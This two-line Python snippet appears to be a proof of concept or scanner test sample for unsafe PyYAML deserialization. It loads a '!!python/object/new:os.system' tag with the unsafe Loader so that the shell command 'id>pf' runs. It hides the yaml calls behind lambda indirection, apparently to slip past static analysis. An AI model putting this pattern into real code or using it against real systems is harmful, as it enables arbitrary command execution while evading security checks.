import yaml
(lambda **k: k['a'])(a=yaml).load('!!python/object/new:os.system [id>pf]', Loader=(lambda **k: k['a'])(a=yaml).Loader)
